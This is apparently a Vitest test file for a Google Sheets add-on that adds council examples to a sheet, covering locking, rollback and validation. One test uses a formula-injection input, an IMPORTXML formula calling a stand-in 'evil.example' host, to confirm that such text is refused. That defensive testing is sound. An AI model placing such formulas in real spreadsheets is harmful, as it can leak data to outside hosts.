import { describe, expect, it } from 'vitest';
import type { ExampleDraft } from '../../src/core/draft';
import { loadAddon, seedSpreadsheet, spreadsheetWithExamples } from './addon';
import { EXAMPLES, formulasOf, LAST_EXAMPLE_ROW, rowValues } from './contribute-helpers';

const draft: ExampleDraft = {
  name: 'Warm Spaces',
  council: 'Leeds',
  description: 'Opened libraries as warm spaces in winter.',
  type: 'Tweak',
  notes: [
    { principle: 6, text: 'Libraries as meeting places.' },
    { principle: 1, text: 'No sign-up needed.' },
  ],
  links: [],
};

const next = LAST_EXAMPLE_ROW + 1;

// biome-ignore lint/suspicious/noExplicitAny: the stand-in's globals are untyped Apps Script objects
type Any = any;

describe('addExample', () => {
  it('writes one row below the table with the next No., in the sheet column order', () => {
    const { run, standIn } = loadAddon();
    const result = run.addExample(draft);
    expect(result).toMatchObject({
      ok: true,
      example: { id: '54', name: 'Warm Spaces', row: next, sheet: EXAMPLES },
    });
    expect(rowValues(standIn, next)).toEqual([
      54,
      'Warm Spaces',
      'Leeds',
      'Opened libraries as warm spaces in winter.',
      'Tweak',
      'No sign-up needed.',
      '',
      '',
      '',
      '',
      'Libraries as meeting places.',
      '',
      '',
      '',
    ]);
  });

  it('puts the Type dropdown on the new row and the rows below', () => {
    const { run, standIn } = loadAddon();
    run.addExample(draft);
    const sheet = (standIn.globals.SpreadsheetApp as Any).getActiveSpreadsheet().getSheetByName(EXAMPLES);
    for (const r of [next, next + 1]) {
      expect(sheet.getRange(r, 5).getDataValidation().getCriteriaValues()[0]).toEqual([
        'Tweak',
        'Tactic',
        'Project',
        'Strategy',
      ]);
    }
  });

  it('writes the row in one setValues call', () => {
    const { run, standIn } = loadAddon();
    standIn.calls.reset();
    run.addExample(draft);
    expect(standIn.calls.byMethod()['Range.setValues']).toBe(1);
  });

  it('is read back by the catalogue as the 54th example', () => {
    const { run } = loadAddon();
    run.addExample(draft);
    const added = run.getCatalogue().examples.at(-1);
    expect(added).toMatchObject({ id: '54', name: 'Warm Spaces', council: 'Leeds', type: 'Tweak' });
    expect(added?.notes.map((n) => n.principle)).toEqual([1, 6]);
  });

  it('keeps the links as linked lines after the description', () => {
    const { run } = loadAddon();
    run.addExample({ ...draft, links: [{ text: 'Warm Spaces map', url: 'https://leeds.gov.uk/warm' }] });
    const added = run.getCatalogue().examples.at(-1);
    expect(added?.links).toEqual([{ text: 'Warm Spaces map', url: 'https://leeds.gov.uk/warm' }]);
  });

  it('reads the description back as the person wrote it, the link text not a loose line at its end', () => {
    const { run } = loadAddon();
    const links = [
      { text: 'Warm Spaces map', url: 'https://leeds.gov.uk/warm' },
      { text: '', url: 'http://leeds.gov.uk/libraries' },
    ];
    run.addExample({ ...draft, links });
    const added = run.getCatalogue().examples.at(-1);
    expect(added?.description).toBe(draft.description);
    expect(added?.links.map((l) => l.url)).toEqual(links.map((l) => l.url));
  });

  it('refuses an invalid draft with its problems, leaving the sheet unchanged cell by cell', () => {
    const { run, standIn } = loadAddon();
    const before = standIn.snapshot();
    const result = run.addExample({ ...draft, name: '', type: 'Tweek' });
    expect(result.ok).toBe(false);
    expect(result.problems.map((p) => p.field)).toEqual(['name', 'type']);
    expect(standIn.snapshot()).toEqual(before);
  });

  it('refuses formula-like text and leaves no formula in the sheet', () => {
    const { run, standIn } = loadAddon();
    const result = run.addExample({
      ...draft,
      name: '=IMPORTXML("https://evil.example", "//a")',
      council: '+Leeds',
    });
    expect(result.ok).toBe(false);
    const errors = result.problems.filter((p) => p.severity === 'error');
    expect(errors.map((p) => p.field)).toEqual(['name', 'council']);
    expect(formulasOf(standIn)).toEqual([]);
  });

  it('keeps text that starts with an apostrophe exactly as written', () => {
    const { run, standIn } = loadAddon();
    expect(run.addExample({ ...draft, name: "'Tis the Season" }).ok).toBe(true);
    expect(rowValues(standIn, next)[1]).toBe("'Tis the Season");
    expect(formulasOf(standIn)).toEqual([]);
  });

  it('writes nothing and says someone else is adding when the lock is busy', () => {
    const { run, standIn } = loadAddon();
    const release = standIn.holdLock('document');
    const before = standIn.snapshot();
    const result = run.addExample(draft);
    expect(result).toMatchObject({
      ok: false,
      message: 'Someone else is adding an example. Try again in a moment.',
    });
    expect(standIn.snapshot()).toEqual(before);
    release();
    expect(run.addExample(draft).ok).toBe(true);
  });

  it('gives two adds made one after the other distinct numbers, both rows present', () => {
    const { run, standIn } = loadAddon();
    const first = run.addExample(draft);
    const second = run.addExample({ ...draft, name: 'Warm Welcome', council: 'York' });
    expect(first.ok && second.ok).toBe(true);
    if (!first.ok || !second.ok) return;
    expect([first.example.id, second.example.id]).toEqual(['54', '55']);
    expect([rowValues(standIn, next)[1], rowValues(standIn, next + 1)[1]]).toEqual([
      'Warm Spaces',
      'Warm Welcome',
    ]);
  });

  it('lets the second of two interleaved adds wait for the lock, then write below the first', () => {
    const { run, standIn } = loadAddon();
    const release = standIn.holdLock('document'); // the first add is writing
    expect(run.addExample({ ...draft, name: 'Warm Welcome', council: 'York' }).ok).toBe(false);
    release();
    const first = run.addExample(draft);
    const retried = run.addExample({ ...draft, name: 'Warm Welcome', council: 'York' });
    expect(first.ok && retried.ok && [first.example.row, retried.example.row]).toEqual([next, next + 1]);
    expect(
      run
        .getCatalogue()
        .examples.map((e) => e.id)
        .slice(-2),
    ).toEqual(['54', '55']);
    expect(rowValues(standIn, next + 2).every((v) => v === '')).toBe(true);
  });

  it('refuses the same example twice', () => {
    const { run } = loadAddon();
    run.addExample(draft);
    const again = run.addExample(draft);
    expect(again.ok).toBe(false);
    expect(again.problems[0].message).toContain(`row ${next} (No. 54)`);
  });

  it('releases the lock when writing fails', () => {
    const { run, standIn } = loadAddon();
    standIn.failNext('Range.setValues');
    expect(run.addExample(draft).ok).toBe(false);
    expect(run.addExample(draft).ok).toBe(true);
  });

  describe('when Google Sheets stops part way', () => {
    const linked: ExampleDraft = { ...draft, links: [{ text: 'Write-up', url: 'https://example.org/warm' }] };
    const TIMED_OUT = new Error('Service Spreadsheets timed out while accessing document.');
    const SAID =
      'The example was not added. Google Sheets stopped part way through, so the add-on put back everything it had changed: the spreadsheet is as it was. Try again in a moment.';

    for (const method of [
      'Range.setValues',
      'Range.setRichTextValue',
      'Range.setDataValidations',
      'SpreadsheetApp.flush',
    ]) {
      it(`leaves the sheet as it was, cell by cell, when ${method} fails, and says nothing was added`, () => {
        const { run, standIn } = loadAddon();
        const before = standIn.snapshot();
        standIn.failNext(method, TIMED_OUT);
        const result = run.addExample(linked);
        expect(result).toMatchObject({
          ok: false,
          message: SAID,
          problems: [{ severity: 'error', message: SAID }],
        });
        expect(standIn.snapshot()).toEqual(before);
      });
    }

    it('takes away the row it added to a full sheet', () => {
      const seed = seedSpreadsheet();
      seed.sheets[0].maxRows = seed.sheets[0].values.length;
      const { run, standIn } = loadAddon(seed);
      const before = standIn.snapshot();
      standIn.failNext('Range.setRichTextValue', TIMED_OUT);
      expect(run.addExample(linked).ok).toBe(false);
      expect(standIn.snapshot()).toEqual(before);
    });

    it('puts back the spaces a person left in the row below the table', () => {
      const seed = seedSpreadsheet();
      seed.sheets[0].values.push(['', '  ', '', ' ']);
      const { run, standIn } = loadAddon(seed);
      const before = standIn.snapshot();
      standIn.failNext('Range.setDataValidations', TIMED_OUT);
      expect(run.addExample(linked).ok).toBe(false);
      expect(standIn.snapshot()).toEqual(before);
    });
  });

  it('adds a row to a full sheet', () => {
    const seed = seedSpreadsheet();
    seed.sheets[0].maxRows = seed.sheets[0].values.length;
    const { run, standIn } = loadAddon(seed);
    expect(run.addExample(draft).ok).toBe(true);
    expect(rowValues(standIn, next)[1]).toBe('Warm Spaces');
  });

  it('makes the same service calls on 53 examples and on 10,000', () => {
    const small = loadAddon();
    const large = loadAddon(spreadsheetWithExamples(10_000));
    for (const addon of [small, large]) {
      const tab = (addon.standIn.globals.SpreadsheetApp as Any)
        .getActiveSpreadsheet()
        .getSheetByName(EXAMPLES);
      tab.insertRowsAfter(tab.getMaxRows(), 10);
      addon.standIn.calls.reset();
      expect(addon.run.addExample(draft).ok).toBe(true);
    }
    expect(large.standIn.calls.byMethod()).toEqual(small.standIn.calls.byMethod());
  });
});
